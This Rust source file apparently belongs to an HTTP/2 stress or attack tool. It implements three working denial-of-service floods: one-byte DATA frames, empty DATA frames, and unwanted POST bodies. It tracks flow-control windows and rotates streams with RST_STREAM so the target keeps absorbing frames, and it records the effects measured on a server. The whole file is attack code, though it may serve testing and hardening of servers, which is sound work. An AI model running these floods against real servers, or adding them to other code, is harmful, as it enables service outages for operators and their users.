//! Content in pieces that cost more than they carry.

use std::io;
use std::sync::atomic::{AtomicI64, Ordering::Relaxed};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

use super::{Attack, flood};
use crate::hostile::{Hostile, h2};

/// Window of a connection and of a stream, without other agreement (RFC 9113, section 6.9.2).
const WINDOW: i64 = 65_535;

/// Frames in a write.
const FRAMES: i64 = 512;

pub const ATTACKS: &[Attack] = &[
    flood(
        "h2-data-bytes",
        "Send content in DATA frames of one byte, within the windows.",
        "24 million frames taken, never closed",
        |client| Box::pin(bytes(client)),
    ),
    flood("h2-data-empty", "Send empty DATA frames.", "2,000,000 of them: + 477 MiB", |client| {
        Box::pin(empty(client))
    }),
    flood(
        "h2-data-unwanted",
        "Send content to a file, within the windows.",
        "not measured",
        |client| Box::pin(unwanted(client)),
    ),
];

async fn empty(client: Hostile) -> io::Result<()> {
    let mut connection = client.connect().await?;
    let head = h2::headers(1, 0, &post("/api/jobs"));
    connection.send(&[h2::opening(&[]), head].concat()).await?;
    let frames = h2::frame(h2::DATA, 0, 1, &[]).repeat(1_000);
    connection.flood(move || Some(frames.clone())).await
}

async fn bytes(client: Hostile) -> io::Result<()> {
    content(client, "/api/jobs", &h2::frame(h2::DATA, 0, 1, b"a")).await
}

async fn unwanted(client: Hostile) -> io::Result<()> {
    content(client, "/media/film.mp4", &h2::frame(h2::DATA, 0, 1, &[0; 64])).await
}

fn post(path: &str) -> Vec<u8> {
    [h2::fields("POST", path), h2::literal("content-type", "application/json")].concat()
}

/// Sends a frame of the first stream again and again, on a new stream when its window is used up, and
/// waits while that of the connection is.
async fn content(client: Hostile, path: &str, frame: &[u8]) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(&[])).await?;
    let window = AtomicI64::new(WINDOW);
    let length = i64::try_from(frame.len() - h2::frame(h2::DATA, 0, 1, &[]).len()).unwrap_or(1);
    let (mut reader, mut writer, tally) = connection.split();
    let sending = async {
        for stream in h2::streams() {
            let mut bytes = h2::headers(stream, 0, &post(path));
            let mut left = WINDOW;
            while left >= FRAMES * length {
                if window.load(Relaxed) < FRAMES * length {
                    sleep(Duration::from_millis(1)).await;
                    continue;
                }
                let renamed = [&frame[..5], &stream.to_be_bytes(), &frame[9..]].concat();
                bytes.extend(renamed.repeat(FRAMES as usize));
                window.fetch_sub(FRAMES * length, Relaxed);
                left -= FRAMES * length;
                if writer.write_all(&bytes).await.is_err() {
                    return;
                }
                tally.add_sent(bytes.len());
                bytes.clear();
            }
            let end = h2::frame(h2::RST_STREAM, 0, stream, &h2::CANCEL);
            if writer.write_all(&end).await.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        () = sending => {}
        _ = grow(&mut reader, &window) => {}
    }
    Err(connection.closed())
}

/// Adds what the server grants to the window of the connection, until the end.
async fn grow(reader: &mut (impl AsyncReadExt + Unpin), window: &AtomicI64) -> io::Result<()> {
    loop {
        let mut head = [0; 9];
        reader.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        reader.read_exact(&mut payload).await?;
        let is_of_connection = head[5..] == [0; 4];
        if let (h2::WINDOW_UPDATE, true, Ok(more)) =
            (head[3], is_of_connection, payload.as_slice().try_into())
        {
            window.fetch_add(i64::from(u32::from_be_bytes(more)), Relaxed);
        }
    }
}
